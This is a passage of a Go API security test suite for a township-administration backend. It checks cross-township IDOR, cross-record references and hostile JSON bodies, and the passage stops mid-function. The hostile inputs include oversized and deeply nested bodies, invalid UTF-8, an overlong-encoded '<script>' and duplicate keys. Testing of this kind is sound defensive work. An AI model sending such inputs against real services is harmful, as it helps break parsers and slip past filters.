package httpapi_test

// The attack-surface suite (issue 7): `make security` runs every TestSecurity… test here with
// the older tests of the same ground (roles by endpoint, bad tokens, refresh reuse, township
// scope, petition confidentiality, attachments), then sqlmap against a running server
// (scripts/security-sqlmap.sh). The tests drive themselves from the route table and from
// docs/openapi.yaml, so that a new route without a case fails them.

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3"
	"github.com/golang-jwt/jwt/v5"

	"minxin/backend/internal/apitest"
	"minxin/backend/internal/domain"
	"minxin/backend/internal/httpapi"
)

// The townships of the suite: A's people attack B's records. A's seat is at (30, 120), its
// village at (30.05, 120); B's at (31, 121) and (31.05, 121).
const (
	bSeatLat, bSeatLng       = 31.0, 121.0
	bVillageLat, bVillageLng = 31.05, 121.0
)

// secWorld is a district of two townships, each with its people and one record of every kind.
type secWorld struct {
	env                    *apitest.Env
	a, b                   domain.Township
	va, vb                 domain.Village
	ha, hb                 domain.Household
	admin, inspector       domain.User
	official, lead         domain.User // township A, both team members
	officer                domain.User // township A's petition officer
	villager               domain.User
	bOfficial, bLead       domain.User
	bOfficer, bVillager    domain.User
	b_                     map[string]string // township B's record ids by kind
	petitionA              sent              // a petition of township A, with its code and PIN
	receptionA             string            // a reception day of township A
	attachmentA            string            // an upload of A's official
	markers                []string          // strings that only B's records hold
	adminTok, inspectorTok string
}

func (w *secWorld) tok(u domain.User) string { return w.env.Token(u) }

// must sends a request that has to succeed and answers its body.
func (w *secWorld) must(t *testing.T, method, path string, u domain.User, body any) map[string]any {
	t.Helper()
	r := w.env.Do(apitest.Request{Method: method, Path: path, Token: w.tok(u), Body: body})
	if r.Status/100 != 2 {
		t.Fatalf("%s %s: %d %s", method, path, r.Status, r.Body)
	}
	return r.Map(t)
}

func newSecWorld(t *testing.T, env *apitest.Env) *secWorld {
	t.Helper()
	// The clock stands after every record, as phones syncing later.
	env.Clock.Set(time.Date(2029, 1, 10, 12, 0, 0, 0, time.UTC))
	w := &secWorld{env: env, b_: map[string]string{}}
	w.a, w.b = env.Township("甲镇", seatLat, seatLng), env.Township("乙镇", bSeatLat, bSeatLng)
	w.va, w.vb = env.Village(w.a, "甲村", villageLat, villageLng), env.Village(w.b, "乙村", bVillageLat, bVillageLng)
	w.ha, w.hb = env.Household(w.va, "张三"), env.Household(w.vb, "乙户主李四")
	w.admin, w.inspector = env.User(domain.RoleAdmin, ""), env.User(domain.RoleInspector, "")
	w.official = env.User(domain.RoleOfficial, w.a.ID, "team_member")
	w.lead = env.User(domain.RoleOfficial, w.a.ID, "team_member", "lead")
	w.officer = env.User(domain.RolePetitionOfficer, w.a.ID)
	w.villager = env.User(domain.RoleVillager, "")
	w.bOfficial = env.User(domain.RoleOfficial, w.b.ID, "team_member")
	w.bLead = env.User(domain.RoleOfficial, w.b.ID, "team_member", "lead")
	w.bOfficer = env.User(domain.RolePetitionOfficer, w.b.ID)
	w.bVillager = env.User(domain.RoleVillager, "")
	w.adminTok, w.inspectorTok = w.tok(w.admin), w.tok(w.inspector)

	// Township B's records, each made through the API by the people who make them.
	w.b_["leave"] = w.must(t, "POST", "/api/v1/leaves", w.bLead, map[string]any{"user_id": w.bOfficial.ID, "start_date": "2026-12-01", "end_date": "2026-12-02", "reason": "乙镇培训"})["id"].(string)
	days := w.must(t, "POST", "/api/v1/reception-days/generate", w.bOfficer, map[string]any{"township_id": w.b.ID, "from": "2026-11-02", "to": "2026-11-02"})["items"].([]any)
	w.b_["reception_day"] = days[0].(map[string]any)["id"].(string)
	for day := 2; day <= 5; day++ {
		id := domain.NewID()
		w.must(t, "POST", "/api/v1/overnight-stays", w.bOfficial, map[string]any{"id": id, "checkin": evidence(local(fmtDate(2026, 11, day)+" 20:00"), bSeatLat, bSeatLng)})
		w.must(t, "POST", "/api/v1/overnight-stays/"+id+"/checkout", w.bOfficial, map[string]any{"evidence": evidence(local(fmtDate(2026, 11, day+1)+" 07:00"), bSeatLat, bSeatLng)})
	}
	w.b_["stay"] = domain.NewID() // checked in, not yet out
	w.must(t, "POST", "/api/v1/overnight-stays", w.bOfficial, map[string]any{"id": w.b_["stay"], "checkin": evidence(local("2026-11-20 20:00"), bSeatLat, bSeatLng)})
	w.b_["stationing"] = domain.NewID()
	w.must(t, "POST", "/api/v1/stationings", w.bOfficial, map[string]any{"id": w.b_["stationing"], "village_id": w.vb.ID, "checkin": evidence(local("2026-11-21 08:00"), bVillageLat, bVillageLng)})
	w.b_["trigger"] = w.must(t, "POST", "/api/v1/visit-triggers", w.bOfficial, map[string]any{"id": domain.NewID(), "household_id": w.hb.ID, "category": "illness", "occurred_on": "2026-11-02", "note": "乙户住院"})["id"].(string)
	w.b_["visit"] = w.must(t, "POST", "/api/v1/visits", w.bOfficial, map[string]any{"id": domain.NewID(), "household_id": w.hb.ID, "category": "hardship", "notes": "乙户走访", "evidence": evidence(local("2026-11-03 10:00"), bVillageLat, bVillageLng)})["id"].(string)
	w.b_["talk_day"] = w.must(t, "POST", "/api/v1/talk-days", w.bOfficial, map[string]any{"id": domain.NewID(), "village_id": w.vb.ID, "held_on": "2026-11-03", "attendance": 20, "issues": []string{"乙村修路"}})["id"].(string)
	w.b_["attachment"] = upload(t, env, w.tok(w.bOfficial), "b.png", "image/png", tinyPNG(t, 40)).Map(t)["id"].(string)
	pet := env.Post("/api/v1/petitions", w.tok(w.bOfficer), map[string]any{"channel": "letter", "township_id": w.b.ID, "category": "land",
		"subject": "乙镇宅基地纠纷", "text": "乙镇的信访内容。", "household_id": w.hb.ID, "petitioner": map[string]any{"name": "乙信访人", "phone": "13912345678"}}).Map(t)
	w.b_["petition"], w.b_["tracking_code"] = pet["id"].(string), pet["tracking_code"].(string)
	w.b_["villager_petition"] = env.Post("/api/v1/petitions", w.tok(w.bVillager), map[string]any{"channel": "online", "township_id": w.b.ID, "category": "environment",
		"subject": "乙村污水", "text": "乙村河里有污水。", "petitioner": map[string]any{"name": "乙村民", "phone": "13712345678"}}).Map(t)["id"].(string)
	// Accepted, it has B's notice (受理告知书).
	w.must(t, "POST", "/api/v1/petitions/"+w.b_["villager_petition"]+"/accept", w.bOfficer, map[string]any{"note": ""})
	w.b_["notice"] = w.must(t, "GET", "/api/v1/petitions/"+w.b_["villager_petition"]+"/notices", w.bOfficer, nil)["items"].([]any)[0].(map[string]any)["id"].(string)
	round := env.Post("/api/v1/audits", w.inspectorTok, map[string]any{"record_type": "overnight_stay", "township_ids": []string{w.b.ID},
		"period_start": "2026-11-01", "period_end": "2026-11-30", "sample_size": 2}).Map(t)
	w.b_["audit"] = round["id"].(string)
	record := round["sample"].([]any)[0].(map[string]any)["record_id"].(string)
	w.b_["finding"] = env.Post("/api/v1/audits/"+w.b_["audit"]+"/findings", w.inspectorTok, map[string]any{"record_id": record, "result": "discrepancy", "notes": "乙镇存疑"}).Map(t)["id"].(string)
	w.markers = []string{w.b.ID, w.vb.ID, w.hb.ID, w.bOfficial.ID, w.bLead.ID, w.bOfficer.ID, "乙户主李四", "乙信访人", "13912345678", "乙村民", "乙镇宅基地纠纷", "乙户住院", "乙户走访", "乙村修路", "乙镇存疑", "乙镇培训", w.b_["tracking_code"]}
	for k, id := range w.b_ {
		if k != "tracking_code" {
			w.markers = append(w.markers, id)
		}
	}

	// Township A's own records, for the attacks that borrow them.
	p := env.Post("/api/v1/petitions", w.tok(w.officer), map[string]any{"channel": "letter", "township_id": w.a.ID, "category": "land",
		"subject": "甲镇的信访", "text": "甲镇的信访内容。", "petitioner": map[string]any{"name": "甲信访人", "phone": "13812345678"}}).Map(t)
	w.petitionA = sent{ID: p["id"].(string), Code: p["tracking_code"].(string), PIN: p["pin"].(string)}
	w.receptionA = w.must(t, "POST", "/api/v1/reception-days/generate", w.officer, map[string]any{"township_id": w.a.ID, "from": "2026-11-02", "to": "2026-11-02"})["items"].([]any)[0].(map[string]any)["id"].(string)
	w.attachmentA = upload(t, env, w.tok(w.official), "a.png", "image/png", tinyPNG(t, 41)).Map(t)["id"].(string)
	return w
}

// attackers are township A's people and a villager, each of whom must find nothing of B.
func (w *secWorld) attackers() map[string]domain.User {
	return map[string]domain.User{"A's official": w.official, "A's lead": w.lead, "A's petition officer": w.officer, "a villager": w.villager}
}

// snapshot reads B's records as the district sees them, to show that an attack changed
// nothing: every record by its id, every list filtered to B, the activity log's length.
func (w *secWorld) snapshot(t *testing.T) map[string]string {
	t.Helper()
	env := w.env
	out := map[string]string{}
	for _, path := range []string{
		"/api/v1/townships/" + w.b.ID, "/api/v1/villages/" + w.vb.ID, "/api/v1/households/" + w.hb.ID,
		"/api/v1/users/" + w.bOfficial.ID, "/api/v1/users/" + w.bLead.ID, "/api/v1/reception-days/" + w.b_["reception_day"],
		"/api/v1/petitions/" + w.b_["petition"], "/api/v1/petitions/" + w.b_["villager_petition"], "/api/v1/attachments/" + w.b_["attachment"],
		"/api/v1/leaves?township_id=" + w.b.ID, "/api/v1/overnight-stays?limit=200&township_id=" + w.b.ID, "/api/v1/stationings?township_id=" + w.b.ID,
		"/api/v1/visit-triggers?township_id=" + w.b.ID, "/api/v1/visits?township_id=" + w.b.ID, "/api/v1/talk-days?township_id=" + w.b.ID,
		"/api/v1/holidays", "/api/v1/progress/officials/" + w.bOfficial.ID + "?date=2026-11-30",
		"/api/v1/petitions?township_id=" + w.b.ID,
	} {
		r := env.Get(path, w.adminTok)
		if r.Status != http.StatusOK {
			t.Fatalf("snapshot %s: %d %s", path, r.Status, r.Body)
		}
		out[path] = string(r.Body)
	}
	for _, path := range []string{"/api/v1/audits/" + w.b_["audit"], "/api/v1/audits"} {
		out[path] = string(env.Get(path, w.inspectorTok).Body)
	}
	out["findings of B's official"] = string(env.Get("/api/v1/findings", w.tok(w.bOfficial)).Body)
	out["activity log length"] = fmt.Sprint(logCount(t, env))
	return out
}

func (w *secWorld) unchanged(t *testing.T, before map[string]string) {
	t.Helper()
	after := w.snapshot(t)
	for k, v := range before {
		if after[k] != v {
			t.Errorf("an attack changed %s:\nbefore %s\n after %s", k, trimTo(v, 400), trimTo(after[k], 400))
		}
	}
}

func trimTo(s string, n int) string {
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}

// routeKey names a route as the route table does: "POST /petitions/:id/accept".
func routeKey(r httpapi.Route) string { return r.Method + " " + r.Path }

// TestSecurityIDORAcrossTownships: every route that takes an id in its path, called by each of
// township A's people (and a villager) with the id of township B's record, answers exactly
// what the same route answers for an id that does not exist — 404, or 403 where the role may
// not call it at all — and changes nothing. The cases are keyed by the route table: a route
// with a path parameter and no case fails the test.
func TestSecurityIDORAcrossTownships(t *testing.T) {
	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
		w := newSecWorld(t, env)
		ev := map[string]any{"evidence": evidence(local("2026-11-02 08:30"), seatLat, seatLng)}
		pb := petitionBodies(w.official.ID)
		type idorCase struct {
			id, missing string // B's record, and a key that names nothing
			body        any
		}
		b := w.b_
		bNotification := domain.NewID() // a notification of B's official, read by anyone else
		if err := env.Store.RawExec(context.Background(), `INSERT INTO notifications (id, user_id, kind, event_key, title_zh, body_zh, title_en, body_en, link, created_at)
			VALUES (?, ?, 'visit_due', 'k', 't', 'b', 't', 'b', '/home', ?)`, bNotification, w.bOfficial.ID, time.Now()); err != nil {
			t.Fatal(err)
		}
		bSubscription := domain.NewID() // a browser of B's official, unsubscribed by anyone else
		if err := env.Store.RawExec(context.Background(), `INSERT INTO push_subscriptions (id, user_id, endpoint, p256dh, auth, created_at)
			VALUES (?, ?, 'https://push.example.cn/b', 'k', 'a', ?)`, bSubscription, w.bOfficial.ID, time.Now()); err != nil {
			t.Fatal(err)
		}
		cases := map[string]idorCase{
			"POST /notifications/:id/read":                 {id: bNotification},
			"DELETE /notifications/push/subscriptions/:id": {id: bSubscription},
			"GET /townships/:id":                           {id: w.b.ID},
			"PATCH /townships/:id":                         {id: w.b.ID, body: map[string]any{"name": "被改名"}},
			"GET /villages/:id":                            {id: w.vb.ID},
			"PATCH /villages/:id":                          {id: w.vb.ID, body: map[string]any{"name": "被改名"}},
			"GET /households/:id":                          {id: w.hb.ID},
			"PATCH /households/:id":                        {id: w.hb.ID, body: map[string]any{"head_name": "被改名", "contact_official_id": w.official.ID}},
			"GET /households/:id/qr":                       {id: w.hb.ID},
			"GET /users/:id":                               {id: w.bOfficial.ID},
			"PATCH /users/:id":                             {id: w.bOfficial.ID, body: map[string]any{"display_name": "被改名", "password": "another-password-1"}},
			"DELETE /leaves/:id":                           {id: b["leave"]},
			"PUT /holidays/:date":                          {id: "2026-10-01", missing: "2026-10-02", body: map[string]any{"working": false, "name": "假日"}},
			"DELETE /holidays/:date":                       {id: "2026-10-01", missing: "2026-10-02"},
			"GET /reception-days/:id":                      {id: b["reception_day"]},
			"POST /reception-days/:id/reassign":            {id: b["reception_day"], body: map[string]any{"official_id": w.official.ID, "reason": "换人"}},
			"POST /reception-days/:id/checkin":             {id: b["reception_day"], body: ev},
			"POST /overnight-stays/:id/checkout":           {id: b["stay"], body: ev},
			"POST /stationings/:id/checkout":               {id: b["stationing"], body: ev},
			"PUT /contact-links/:id":                       {id: w.bOfficial.ID, body: map[string]any{"village_id": w.va.ID}},
			"GET /progress/officials/:id":                  {id: w.bOfficial.ID},
			"GET /petitions/:id":                           {id: b["petition"]},
			"GET /audits/:id":                              {id: b["audit"]},
			"GET /audits/:id/manifest":                     {id: b["audit"]},
			"GET /audits/:id/verify":                       {id: b["audit"]},
			"POST /audits/:id/cancel":                      {id: b["audit"], body: map[string]any{"reason": "取消"}},
			"POST /audits/:id/findings":                    {id: b["audit"], body: map[string]any{"record_id": "overnight_stay:" + b["stay"], "result": "confirmed", "notes": ""}},
			"POST /findings/:id/explain":                   {id: b["finding"], body: map[string]any{"text": "不是我"}},
			"POST /findings/:id/resolve":                   {id: b["finding"], body: map[string]any{"resolution": "no_issue", "notes": ""}},
			"GET /attachments/:id":                         {id: b["attachment"]},
			"POST /users/:id/password-reset":               {id: w.bOfficial.ID, body: map[string]any{}},
			"POST /petitions/:id/pin":                      {id: b["petition"], body: map[string]any{"phone": "13912345678", "identity_note": "身份证已核验"}},
		}
		for action, body := range pb {
			cases["POST /petitions/:id/"+action] = idorCase{id: b["petition"], body: body}
		}
		// Casework (§7): B's notices, by id and through A's tracking code and PIN; transfer,
		// supervision and its answer on B's petition.
		creds := "?code=" + w.petitionA.Code + "&pin=" + w.petitionA.PIN
		cases["GET /petitions/:id/notices"] = idorCase{id: b["villager_petition"]}
		cases["GET /notices/:id"] = idorCase{id: b["notice"]}
		cases["GET /petitions/track/notices/:id"] = idorCase{id: b["notice"] + creds, missing: domain.NewID() + creds}
		cases["POST /petitions/:id/transfer"] = idorCase{id: b["petition"], body: map[string]any{"to_township_id": w.a.ID, "reason": "转到甲镇"}}
		cases["POST /petitions/:id/supervise"] = idorCase{id: b["petition"], body: map[string]any{"note": "督办", "act_by": "2029-01-20"}}
		cases["POST /petitions/:id/supervision-answer"] = idorCase{id: b["petition"], body: map[string]any{"text": "已办"}}
		before := w.snapshot(t)
		tried := 0
		for _, route := range env.Server.Routes() {
			if !strings.Contains(route.Path, "/:") {
				continue
			}
			c, ok := cases[routeKey(route)]
			if !ok {
				t.Errorf("%s takes an id and has no case in TestSecurityIDORAcrossTownships", routeKey(route))
				continue
			}
			if c.missing == "" {
				c.missing = domain.NewID()
			}
			param := route.Path[strings.Index(route.Path, "/:")+1:]
			param, _, _ = strings.Cut(param, "/")
			for name, who := range w.attackers() {
				tok := w.tok(who)
				got := env.Do(apitest.Request{Method: route.Method, Path: "/api/v1" + strings.Replace(route.Path, param, c.id, 1), Token: tok, Body: c.body})
				none := env.Do(apitest.Request{Method: route.Method, Path: "/api/v1" + strings.Replace(route.Path, param, c.missing, 1), Token: tok, Body: c.body})
				tried++
				if got.Status != http.StatusNotFound && got.Status != http.StatusForbidden {
					t.Errorf("%s as %s on township B's record: %d %s", routeKey(route), name, got.Status, got.Body)
				} else if got.Status != none.Status || got.Code() != none.Code() || string(got.Body) != string(none.Body) {
					t.Errorf("%s as %s tells B's record from a missing one: %d %s vs %d %s", routeKey(route), name, got.Status, got.Body, none.Status, none.Body)
				}
			}
		}
		// A petitioner's code and PIN open their own petition only: sent with another
		// petition's id they answer as for a petition that does not exist.
		for _, action := range []string{"feedback", "request-review", "request-rereview", "withdraw"} {
			creds := map[string]any{"tracking_code": w.petitionA.Code, "pin": w.petitionA.PIN}
			for k, v := range pb[action] {
				creds[k] = v
			}
			got := env.Post("/api/v1/petitions/"+b["petition"]+"/"+action, "", creds)
			none := env.Post("/api/v1/petitions/"+domain.NewID()+"/"+action, "", creds)
			if got.Status != http.StatusNotFound || got.Status != none.Status || string(got.Body) != string(none.Body) {
				t.Errorf("%s on B's petition with A's code and PIN: %d %s (missing: %d %s)", action, got.Status, got.Body, none.Status, none.Body)
			}
		}
		// Another villager's petition is not found for a villager.
		if r := env.Get("/api/v1/petitions/"+b["villager_petition"], w.tok(w.villager)); r.Status != http.StatusNotFound {
			t.Errorf("a villager reads another villager's petition: %d %s", r.Status, r.Body)
		}
		if r := env.Get("/api/v1/notifications/push", w.tok(w.bOfficial)); r.Map(t)["subscriptions"] != float64(1) {
			t.Errorf("B's official lost the browser to the attacks: %s", r.Body)
		}
		if tried < 4*35 {
			t.Errorf("only %d attacks were tried", tried)
		}
		w.unchanged(t, before)
	})
}

// petitionBodies are valid bodies of every petition action; handler is the handler to assign.
func petitionBodies(handler string) map[string]map[string]any {
	return map[string]map[string]any{
		"accept":           {"note": "材料齐全"},
		"reject":           {"reason": "不属于本机关职权范围", "guidance": "请向法院起诉"},
		"assign":           {"handler_id": handler},
		"extend":           {"days": 30, "reason": "需要实地测量"},
		"reply":            {"text": "经核查，已处理。"},
		"feedback":         {"rating": "satisfied"},
		"request-review":   {"reason": "不服"},
		"review":           {"opinion": "维持"},
		"request-rereview": {"reason": "仍然不服"},
		"rereview":         {"opinion": "维持"},
		"withdraw":         {"reason": "已解决"},
	}
}

// TestSecurityCrossTownshipReferences: township A's people name B's records inside request
// bodies (a visit to B's household, a petition with B's village, a handler from B, B's
// upload as a photo…) and in every list's filters. Each write is refused and changes
// nothing; each list answers nothing of B. The lists are every collection of the route table,
// with every id filter docs/openapi.yaml gives them.
func TestSecurityCrossTownshipReferences(t *testing.T) {
	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
		w := newSecWorld(t, env)
		b := w.b_
		atA := evidence(local("2026-11-10 10:00"), villageLat, villageLng)
		withB := func(photo string) map[string]any {
			ev := evidence(local("2026-11-10 10:00"), villageLat, villageLng)
			ev["photo_ids"] = []string{photo}
			return ev
		}
		letter := func(extra map[string]any) map[string]any {
			body := map[string]any{"channel": "letter", "township_id": w.a.ID, "category": "land", "subject": "跨镇", "text": "跨镇引用。",
				"petitioner": map[string]any{"name": "某人", "phone": "13800000001"}}
			for k, v := range extra {
				body[k] = v
			}
			return body
		}
		writes := []struct {
			name         string
			as           domain.User
			method, path string
			body         any
		}{
			{"household in B's village", w.official, "POST", "/api/v1/households", map[string]any{"village_id": w.vb.ID, "head_name": "王五", "address": "乙村9号"}},
			{"household moved to B's village", w.official, "PATCH", "/api/v1/households/" + w.ha.ID, map[string]any{"village_id": w.vb.ID}},
			{"B's official as contact", w.lead, "PATCH", "/api/v1/households/" + w.ha.ID, map[string]any{"contact_official_id": w.bOfficial.ID}},
			{"leave for B's official", w.lead, "POST", "/api/v1/leaves", map[string]any{"user_id": w.bOfficial.ID, "start_date": "2026-12-10", "end_date": "2026-12-11", "reason": "培训"}},
			{"rota of B", w.officer, "POST", "/api/v1/reception-days/generate", map[string]any{"township_id": w.b.ID, "from": "2026-11-03", "to": "2026-11-04"}},
			{"A's reception day to B's official", w.officer, "POST", "/api/v1/reception-days/" + w.receptionA + "/reassign", map[string]any{"official_id": w.bOfficial.ID, "reason": "换人"}},
			{"stationing in B's village", w.official, "POST", "/api/v1/stationings", map[string]any{"id": domain.NewID(), "village_id": w.vb.ID, "checkin": evidence(local("2026-11-10 08:00"), bVillageLat, bVillageLng)}},
			{"trigger of B's household", w.official, "POST", "/api/v1/visit-triggers", map[string]any{"id": domain.NewID(), "household_id": w.hb.ID, "category": "illness", "occurred_on": "2026-11-02", "note": "x"}},
			{"trigger of B's household by A's officer", w.officer, "POST", "/api/v1/visit-triggers", map[string]any{"id": domain.NewID(), "household_id": w.hb.ID, "category": "illness", "occurred_on": "2026-11-02", "note": "x"}},
			{"visit to B's household", w.official, "POST", "/api/v1/visits", map[string]any{"id": domain.NewID(), "household_id": w.hb.ID, "category": "hardship", "notes": "x", "evidence": atA}},
			{"visit answering B's trigger", w.official, "POST", "/api/v1/visits", map[string]any{"id": domain.NewID(), "household_id": w.ha.ID, "category": "illness", "trigger_id": b["trigger"], "notes": "x", "evidence": atA}},
			{"visit with B's upload as photo", w.official, "POST", "/api/v1/visits", map[string]any{"id": domain.NewID(), "household_id": w.ha.ID, "category": "hardship", "notes": "x", "evidence": withB(b["attachment"])}},
			{"stay with B's upload as photo", w.official, "POST", "/api/v1/overnight-stays", map[string]any{"id": domain.NewID(), "checkin": withB(b["attachment"])}},
			{"talk day in B's village", w.official, "POST", "/api/v1/talk-days", map[string]any{"id": domain.NewID(), "village_id": w.vb.ID, "held_on": "2026-11-05", "attendance": 3, "issues": []string{}}},
			{"contact link to B's village", w.lead, "PUT", "/api/v1/contact-links/" + w.official.ID, map[string]any{"village_id": w.vb.ID}},
			{"petition of B by A's officer", w.officer, "POST", "/api/v1/petitions", letter(map[string]any{"township_id": w.b.ID})},
			{"petition with B's village", w.officer, "POST", "/api/v1/petitions", letter(map[string]any{"village_id": w.vb.ID})},
			{"petition with B's household", w.officer, "POST", "/api/v1/petitions", letter(map[string]any{"household_id": w.hb.ID})},
			{"petition with B's upload", w.officer, "POST", "/api/v1/petitions", letter(map[string]any{"attachment_ids": []string{b["attachment"]}})},
			{"petition with A's official's upload", w.officer, "POST", "/api/v1/petitions", letter(map[string]any{"attachment_ids": []string{w.attachmentA}})},
			{"A's petition assigned to B's official", w.officer, "POST", "/api/v1/petitions/" + w.petitionA.ID + "/assign", map[string]any{"handler_id": w.bOfficial.ID}},
			{"explanation with B's upload", w.bOfficial, "POST", "/api/v1/findings/" + b["finding"] + "/explain", map[string]any{"text": "x", "attachment_ids": []string{w.attachmentA}}},
		}
		referenced := []string{w.b.ID, w.vb.ID, w.hb.ID, w.bOfficial.ID, b["trigger"], b["attachment"], w.attachmentA}
		// The petition of A must be accepted before it can be assigned.
		w.must(t, "POST", "/api/v1/petitions/"+w.petitionA.ID+"/accept", w.officer, map[string]any{"note": ""})
		before := w.snapshot(t)
		for _, c := range writes {
			r := env.Do(apitest.Request{Method: c.method, Path: c.path, Token: w.tok(c.as), Body: c.body})
			if r.Status != http.StatusUnprocessableEntity || !strings.Contains(string(r.Body), `"field":`) {
				t.Errorf("%s: %d %s, want 422 naming the field", c.name, r.Status, r.Body)
				continue
			}
			// The same request naming records that do not exist gets the same answer: B's
			// records are not told apart from missing ones.
			raw, _ := json.Marshal(c.body)
			missing, back := string(raw), []string{}
			for _, id := range referenced {
				if strings.Contains(missing, id) {
					fake := domain.NewID()
					missing = strings.ReplaceAll(missing, id, fake)
					back = append(back, fake, id)
				}
			}
			m := env.Do(apitest.Request{Method: c.method, Path: c.path, Token: w.tok(c.as), Body: missing})
			if got := strings.NewReplacer(back...).Replace(string(m.Body)); got != string(r.Body) {
				t.Errorf("%s tells B's records from missing ones:\n%s\n%s", c.name, r.Body, m.Body)
			}
		}
		w.unchanged(t, before)

		// Every list, with each id filter it takes set to B's records, shows nothing of B.
		doc, _, err := apitest.Spec()
		if err != nil {
			t.Fatal(err)
		}
		filters := map[string]string{"township_id": w.b.ID, "village_id": w.vb.ID, "household_id": w.hb.ID, "official_id": w.bOfficial.ID,
			"responsible_id": w.bOfficial.ID, "handler_id": w.bOfficial.ID, "user_id": w.bOfficial.ID}
		lists := 0
		for _, route := range env.Server.Routes() {
			if route.Method != http.MethodGet || strings.Contains(route.Path, ":") || route.Path == "/directory" {
				continue // the public directory names every township and village by design
			}
			op := doc.Paths.Value("/api/v1" + route.Path).GetOperation(route.Method)
			queries := []string{""}
			for _, p := range op.Parameters {
				if v, ok := filters[p.Value.Name]; ok && p.Value.In == "query" {
					queries = append(queries, p.Value.Name+"="+v)
				}
			}
			if route.Path == "/scorecards" || route.Path == "/petitions/figures" {
				for i := range queries {
					queries[i] += "&from=2026-11-01&to=2026-11-30"
				}
			}
			for name, who := range w.attackers() {
				if route.Allow != nil && !route.Allow(who.Actor()) {
					continue
				}
				for _, q := range queries {
					r := env.Get("/api/v1"+route.Path+"?"+q, w.tok(who))
					lists++
					if r.Status >= 500 || r.Status == http.StatusUnauthorized || r.Status == http.StatusForbidden {
						t.Errorf("GET %s?%s as %s: %d %s", route.Path, q, name, r.Status, r.Body)
						continue
					}
					for _, m := range w.markers {
						if strings.Contains(string(r.Body), m) {
							t.Errorf("GET %s?%s as %s shows %q of township B: %s", route.Path, q, name, m, trimTo(string(r.Body), 300))
						}
					}
				}
			}
		}
		if lists < 40 {
			t.Errorf("only %d list requests were tried", lists)
		}
	})
}

// callers are one user of every kind, to find for each route someone its policy lets in.
type callers struct {
	users []domain.User
	names []string
}

func newCallers(env *apitest.Env, township domain.Township) callers {
	return callers{
		users: []domain.User{env.User(domain.RoleAdmin, ""), env.User(domain.RoleInspector, ""), env.User(domain.RoleOfficial, township.ID, "team_member", "lead"),
			env.User(domain.RolePetitionOfficer, township.ID), env.User(domain.RoleVillager, "")},
		names: []string{"admin", "inspector", "lead", "petition officer", "villager"},
	}
}

// tokenFor answers a token of the first caller the route lets in, "" for a public route.
func (cs callers) tokenFor(env *apitest.Env, r httpapi.Route) (string, string) {
	if r.Allow == nil {
		return "", "anonymous"
	}
	for i, u := range cs.users {
		if r.Allow(u.Actor()) {
			return env.Token(u), cs.names[i]
		}
	}
	env.T.Fatalf("nobody may call %s", routeKey(r))
	return "", ""
}

// concrete fills a route's path parameters.
func concrete(path string) string {
	path = strings.ReplaceAll(path, ":date", "2027-10-01")
	return "/api/v1" + strings.ReplaceAll(path, ":id", domain.NewID())
}

// bodyFields are the top-level fields of an operation's JSON body, sorted, with the JSON type
// of each ("date" and "date-time" for strings of those formats).
func bodyFields(t *testing.T, route httpapi.Route) (names []string, types map[string]string) {
	t.Helper()
	doc, _, err := apitest.Spec()
	if err != nil {
		t.Fatal(err)
	}
	types = map[string]string{}
	op := doc.Paths.Value("/api/v1" + echoToOpenAPI(route.Path)).GetOperation(route.Method)
	if op.RequestBody == nil || op.RequestBody.Value.Content.Get("application/json") == nil {
		return nil, types
	}
	var walk func(s *openapi3.Schema)
	walk = func(s *openapi3.Schema) {
		for _, sub := range s.AllOf {
			walk(sub.Value)
		}
		for name, p := range s.Properties {
			if p.Value.ReadOnly {
				continue
			}
			for _, typ := range []string{"string", "integer", "number", "boolean", "array", "object"} {
				if p.Value.Type.Permits(typ) {
					types[name] = typ
					break
				}
			}
			if types[name] == "string" && (p.Value.Format == "date" || p.Value.Format == "date-time") {
				types[name] = p.Value.Format // decoded by its own type, which refuses "x" before anything else
			}
		}
	}
	walk(op.RequestBody.Value.Content.Get("application/json").Schema.Value)
	for name := range types {
		names = append(names, name)
	}
	slices.Sort(names)
	return names, types
}

// TestSecurityHostileBodies sends every route that reads a JSON body (from the route table)
// bodies built to break a parser or to be read two ways: over 1 MiB, nested 100 000 deep, not
// UTF-8 (a stray byte, an overlong '<', an encoded surrogate), NUL in a string, a key given
// twice (also in another letter case), numbers no field can hold, NaN. Each is refused with
// the problem+json the API documents, naming the field where there is one, and nothing
// changes.
func TestSecurityHostileBodies(t *testing.T) {
	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
		town := env.Township("甲镇", seatLat, seatLng)
		cs := newCallers(env, town)
		logBefore := logCount(t, env)
		type hostile struct {
			name   string
			body   string
			status int
			code   string
			field  string // the field the answer must name, if any
		}
		routes, fields := 0, 0
		for _, route := range env.Server.Routes() {
			if route.Method == http.MethodGet || route.Method == http.MethodDelete || route.Path == "/attachments" {
				continue
			}
			routes++
			names, types := bodyFields(t, route)
			cases := []hostile{
				{"1 MiB + 1", `{"x":"` + strings.Repeat("a", httpapi.MaxBodyBytes-7) + `"}`, 413, "body_too_large", ""},
				{"100 000 nested lists", strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000), 400, "malformed_json", ""},
				{"100 000 nested objects", strings.Repeat(`{"a":`, 100_000) + "1" + strings.Repeat("}", 100_000), 400, "malformed_json", ""},
				{"a stray byte", "{\"x\":\"\xff\"}", 400, "invalid_utf8", ""},
				{"an overlong '<'", "{\"x\":\"\xc0\xbcscript\xc0\xbe\"}", 400, "invalid_utf8", ""},
				{"an encoded surrogate", "{\"x\":\"\xed\xa0\x80\"}", 400, "invalid_utf8", ""},
				{"NaN", `{"x":NaN}`, 400, "malformed_json", ""},
				{"a body of 100 000 keys", `{` + strings.Repeat(`"k":1,`, 100_000) + `"k":1}`, 422, "invalid_field", "k"},
			}
			for _, f := range names {
				v := "null" // decodes into any field, so that nothing but the repetition is wrong
				cases = append(cases,
					hostile{"duplicate " + f, `{"` + f + `":` + v + `,"` + f + `":` + v + `}`, 422, "invalid_field", f},
					hostile{"duplicate " + f + " in capitals", `{"` + f + `":` + v + `,"` + strings.ToUpper(f) + `":` + v + `}`, 422, "invalid_field", strings.ToUpper(f)},
				)
				switch types[f] {
				case "string":
					cases = append(cases, hostile{"NUL in " + f, `{"` + f + `":"abc\u0000def"}`, 422, "invalid_field", f})
				case "integer":
